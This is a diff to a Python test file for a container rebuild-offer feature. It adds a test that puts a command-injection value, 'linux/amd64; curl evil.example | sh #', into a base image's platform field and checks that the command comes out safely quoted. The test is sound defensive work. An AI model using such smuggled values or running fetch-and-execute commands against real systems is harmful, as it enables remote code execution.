@@ -1,5 +1,7 @@
 """What is offered where a patch is unsafe: what to copy builds on the very release that the plan names."""
 
+from dataclasses import replace
+
 import pytest
 
 from functions_app.domain.changes.rebuild_offers import rebuild_offer
@@ -26,6 +28,13 @@ def test_a_move_to_another_system_is_called_one() -> None:
     assert offer is not None
     assert offer.move
     assert "/app:img-rebuilt-20261101 ." in offer.commands
+
+
+def test_what_a_base_calls_its_platform_is_a_word_of_the_command_and_no_command() -> None:
+    base = replace(BASE, platform="linux/amd64; curl evil.example | sh #")
+    offer = rebuild_offer(Verdict.of([Finding("package-pinned", ("a",), 1)]), base, APP, "1")
+    assert offer is not None
+    assert " --platform 'linux/amd64; curl evil.example | sh #' -t " in offer.commands
 
 
 @pytest.mark.parametrize("codes", [[], ["linker-cache"], ["base-withdrawn"], ["package-pinned", "os-older"]])
